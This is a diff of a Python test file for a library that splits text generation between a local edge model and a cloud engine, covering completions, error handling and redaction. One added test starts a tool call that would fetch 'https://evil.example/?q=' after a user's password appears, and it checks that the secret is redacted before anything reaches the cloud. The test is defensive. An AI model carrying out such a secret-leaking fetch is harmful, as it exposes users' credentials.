@@ -10,23 +10,27 @@ from hypothesis import assume, example, given
 
 from edgewise.cloud.probe import Habits
 from edgewise.cloud.reasoning import Reasoning
+from edgewise.cloud.redaction.rules import redaction_of
+from edgewise.cloud.redaction.view import Redacted
 from edgewise.cloud.seam import REPEATED
 from edgewise.cloud.text import TextCloud
+from edgewise.completion import Completion
 from edgewise.edge.base import Floats
 from edgewise.engines.base import Described
 from edgewise.errors import (
     CloudProtocolError,
     CloudRejected,
     CloudUnavailable,
+    NothingUsable,
     VocabularyMismatch,
 )
+from edgewise.loop.breaker import Breaker
 from edgewise.loop.decoder import Answer, Decoder
 from edgewise.loop.policy import Policy
 from edgewise.prompts import Message, Prompt
-from edgewise.routers.constant import Random
+from edgewise.routers.constant import Constant, Random
 from edgewise.sampling import Sampling
 from edgewise.testing.scripted_edge import EOS, SIZE, ByteTokenizer, ScriptedEdge, completing
-from edgewise.verdict import Verdict
 from tests.cloud.text_engine import TextDouble, writing
 from tests.loop.test_run_ahead import _Patient
 
@@ -35,22 +39,22 @@ ASKED = "sky? "
 PROMPT = Prompt(tuple(ASKED.encode()), (Message("user", "sky?"),))
 
 
-def ask(cloud: TextCloud, answer: str, n: int = 1, prompt: Prompt = PROMPT) -> Verdict:
+def ask(cloud: TextCloud, answer: str, n: int = 1, prompt: Prompt = PROMPT) -> Completion:
     with closing(cloud.open(prompt)) as session:
-        return session.ask([*prompt.ids, *answer.encode()], n, Sampling(), 20).result(20)
+        return session.ask([*prompt.ids, *answer.encode()], n, Sampling(), 20).result(60)
 
 
-def wording(verdict: Verdict) -> str:
-    return bytes(one for one in verdict.ids if one < 256).decode()
+def wording(completion: Completion) -> str:
+    return bytes(one for one in completion.ids if one < 256).decode()
 
 
 def test_words_come_whole_and_blanks_once() -> None:
     engine = TextDouble(writing("so it is."))
     with closing(TextCloud(engine, edge=EDGE)) as cloud:
-        verdict = ask(cloud, "so")
-        assert wording(verdict) == " it"
-        assert verdict.written == 2
-        assert (verdict.cached, verdict.computed) == (0, 0)
+        completion = ask(cloud, "so")
+        assert wording(completion) == " it"
+        assert completion.written == 2
+        assert (completion.cached, completion.computed) == (0, 0)
         # The blank is held back: it comes again, and is dropped.
         assert wording(ask(cloud, "so ")) == "it"
         assert engine.asked == ["so", "so"]
@@ -82,26 +86,67 @@ def test_who_tells_no_usage_has_written_no_more_than_was_asked() -> None:
     engine = TextDouble(writing("so it is."))
     engine.metered = False
     with closing(TextCloud(engine, edge=EDGE)) as cloud:
-        verdict = ask(cloud, "so")
-        assert verdict.billed == 8
-        assert (verdict.cached, verdict.computed) == (None, None)
+        completion = ask(cloud, "so")
+        assert completion.billed == 8
+        assert (completion.cached, completion.computed) == (None, None)
 
 
 @pytest.mark.parametrize(
-    ("text", "why", "error"),
+    ("text", "error"),
     [
-        ("so it is not that", "anew", CloudProtocolError),
-        ("", "wrote no text", CloudRejected),
+        ("so it is not, as you know", NothingUsable),
+        ("", CloudRejected),
     ],
 )
-def test_a_reply_that_is_none_is_refused(text: str, why: str, error: type[Exception]) -> None:
+def test_a_reply_that_is_none_is_refused(text: str, error: type[Exception]) -> None:
     class Says(TextDouble):
         async def go_on(self, *args, **more):  # type: ignore[no-untyped-def]
             gone = await super().go_on(*args, **more)
             return type(gone)(text=text, ended=False)
 
-    with closing(TextCloud(Says(), edge=EDGE)) as cloud, pytest.raises(error, match=why):
-        ask(cloud, "so it is not, as you know")
+    with closing(TextCloud(Says(), edge=EDGE)) as cloud, pytest.raises(error):
+        ask(cloud, "so it is not, as you know, what it was")
+
+
+def test_rows_that_begin_alike_pause_no_cloud() -> None:
+    """A table, whose rows all begin with the same words: each consult brings the next one."""
+    row = "| Paris is the capital of France | and more of it in row {} |\n"
+    text = "".join(row.format(number) for number in range(6))
+    engine = TextDouble(writing(text))
+    breaker = Breaker()
+    with closing(TextCloud(engine, edge=EDGE)) as cloud:
+        edge = ScriptedEdge(completing(text, prompt=ASKED))
+        policy = Policy(threshold=0.5, deadline=30.0)
+        decoder = Decoder(edge, router=Constant(1.0), policy=policy, cloud=cloud, breaker=breaker)
+        answer = decoder.generate(PROMPT)
+    assert not breaker.is_open
+    assert not {"protocol", "circuit_open"} & {one.reason for one in answer.tokens}
+    assert answer.text == text
+
+
+class Calling(ByteTokenizer):
+    """Has a control token that begins a call."""
+
+    size = SIZE + 1
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.special[SIZE] = "<tool_call>"
+
+
+def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> None:
+    edge = Calling()
+    prompt = Prompt(tuple(b"so "), (Message("user", "password: hunter2x"),))
+    begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
+    engine = TextDouble(lambda answer: "<SECRET_1> so it is")
+    view = Redacted(redaction_of("secret", None))
+    with closing(TextCloud(engine, edge=edge, view=view)) as cloud:
+        for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
+            with closing(cloud.open(prompt)) as session:
+                ids = [*prompt.ids, *answer]
+                asked = session.ask(ids, 3, Sampling(), 60).result()
+                assert wording(asked).startswith(told[:8])
+        assert not any("hunter2x" in one.content for told in engine.told for one in told)
 
 
 def test_half_a_character_is_none() -> None:
